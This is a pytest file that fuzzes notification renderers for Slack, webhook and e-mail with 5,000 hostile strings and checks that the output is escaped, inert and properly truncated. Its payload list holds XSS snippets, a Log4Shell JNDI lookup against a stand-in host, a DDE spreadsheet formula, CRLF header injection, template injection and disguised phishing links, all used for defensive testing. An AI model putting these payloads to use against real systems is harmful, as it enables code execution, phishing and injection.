from __future__ import annotations

import random
import re
from collections.abc import Iterator

import pytest

from chalicelib.core.notices.channels import webhook
from chalicelib.core.notices.notice import Kind, Notice
from chalicelib.core.plain_text import subject_line
from tests.core.notices.channels.checks import check, check_dead, check_published
from tests.core.notices.channels.rendering import KEY, RENDERERS

COUNT = 5_000

_PIECES = (
    "<!channel>",
    "<!here|x>",
    "<!everyone>",
    "<@U0123456789>",
    "<#C0123|x>",
    "&lt;!channel&gt;",
    "@channel",
    "@everyone",
    "@here",
    "<at>all</at>",
    "<https://evil.example|https://aws.amazon.com>",
    "[AWS](https://evil.example)",
    "![x](http://evil.example/x.png)",
    "https://evil.example/login?a=b&c=d",
    "HTTPS://EVIL.EXAMPLE",
    "www.evil.example",
    "WWW.evil.example",
    "javascript:alert(1)",
    "data:text/html,x",
    "mailto:x@evil.example",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "```",
    "`",
    "*bold*",
    "_it_",
    "~gone~",
    "# Heading",
    "> quote",
    "|a|b|",
    "\r\nBcc: everybody@example.com",
    "\n\n",
    "\x00",
    "\x1b[31m",
    "\x07",
    "\u202e",
    "\u2066",
    "\u200b",
    "\ufeff",
    "\u2028",
    "\x85",
    "\ud800",
    "\ue000",
    "=cmd|' /C calc'!A0",
    '"',
    "'",
    "\\",
    "\\`",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "%0d%0a",
    "Größe",
    "大きさ",
    "🔥",
    "a",
    " ",
    "i-0a1b2c3d4e5f60718",
    "https" * 3 + "://",
    "w" * 40,
    ":/" + "/",
)


def hostile_texts(count: int = COUNT) -> Iterator[str]:
    """Yield texts of hostile pieces, the same in every run; some of them are 100 kB long."""
    chance = random.Random(20260301)
    for nth in range(count):
        pieces = [chance.choice(_PIECES) for _ in range(chance.randint(1, 12))]
        text = "".join(pieces)
        yield text * (100_000 // max(1, len(text))) if nth % 500 == 0 else text


def a_hostile_notice(text: str, nth: int = 0) -> Notice:
    """Return a notice with `text` in every field that can hold one, and many of the lines."""
    kinds = tuple(Kind)
    return Notice(
        kind=kinds[nth % len(kinds)],
        outcome=text,
        severity=text if nth % 3 else "High",
        account_id=text,
        subject=text,
        sections=((text, (text, f"x{text}", text)), (f"To {text}", (text,)), ("", (text,))),
        facts={
            "region": text,
            "instance_id": text if nth % 2 else None,
            "quarantine_id": text if nth % 4 else None,
            "finding": {"id": text},
        },
    )


# A bot of Slack shows what a webhook of Slack shows; the body of a webhook has a test of its own.
@pytest.mark.no_cover  # the same lines, very often
@pytest.mark.parametrize("channel", sorted(RENDERERS.keys() - {"slack_bot", "webhook"}))
def test_nothing_alive_is_left_of_5000_hostile_texts(channel: str) -> None:
    for nth, text in enumerate(hostile_texts()):
        rendered = RENDERERS[channel](a_hostile_notice(text, nth))

        check_dead(channel, rendered)
        if nth % 10 == 0:  # the longest among them
            check_published(channel, rendered)


@pytest.mark.no_cover
def test_a_webhook_carries_hostile_text_as_escaped_data() -> None:
    for nth, text in enumerate(hostile_texts()):
        body = webhook.render(a_hostile_notice(text, nth), KEY)

        assert body.isascii()
        assert not set(b"<>&\n\x00\x1b") & set(body)


@pytest.mark.no_cover
def test_a_subject_of_e_mail_stays_a_subject() -> None:
    for text in hostile_texts():
        subject = subject_line(text)

        assert 0 < len(subject) < 100
        assert subject.isascii()
        assert subject.isprintable()


@pytest.mark.parametrize("channel", RENDERERS)
def test_a_notice_of_very_many_lines_says_how_many_are_left_out(channel: str) -> None:
    lines = tuple(f"interface eni-{n} & <{n}> `{n}`" for n in range(20_000))
    notice = Notice(Kind.DRIFT, "drifted", "High", "1", "long", (("All", lines),), {})

    rendered = RENDERERS[channel](notice)

    check(channel, rendered)
    assert re.search(r"and 1\d,?\d{3} more", str(rendered))


@pytest.mark.parametrize("channel", RENDERERS)
def test_a_notice_of_very_many_sections_is_cut_with_a_mark(channel: str) -> None:
    sections = tuple((f"To do {n}", ("one line",)) for n in range(1_000))
    notice = Notice(Kind.DRIFT, "drifted", "High", "1", "long", sections, {})

    rendered = RENDERERS[channel](notice)

    check(channel, rendered)
    assert "... cut here" in str(rendered)


@pytest.mark.parametrize("channel", RENDERERS)
def test_a_notice_that_says_nothing_is_shown_all_the_same(channel: str) -> None:
    check(channel, RENDERERS[channel](Notice(Kind.MODE, "", "", "", "", (), {})))
